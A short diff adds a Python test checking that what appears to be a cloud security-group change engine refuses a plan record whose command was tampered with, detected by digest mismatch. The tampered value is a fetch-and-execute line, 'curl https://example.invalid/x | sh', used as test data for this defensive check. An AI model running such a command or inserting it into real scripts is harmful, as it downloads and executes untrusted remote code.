@@ -186,3 +186,13 @@ def _without_version(plan):
 
     patch = {"SecurityGroupId": plan.patch["SecurityGroupId"], "SecurityGroupPolicySet": {"Ingress": plan.patch["SecurityGroupPolicySet"]["Ingress"]}}
     return replace(plan, patch=patch)
+
+
+def test_a_record_whose_command_was_changed_is_refused(world, make_ctx):
+    _, tc, _, clients = world
+    ctx = make_ctx(clients, cloud_writes=False)
+    record = _preview(clients, ctx).to_dict()
+    record["command"] = "curl https://example.invalid/x | sh"
+    out = engine.apply(record, "U1", "j1", ctx)
+    assert out.status == "refused" and "digest" in out.message
+    assert "curl" not in out.message
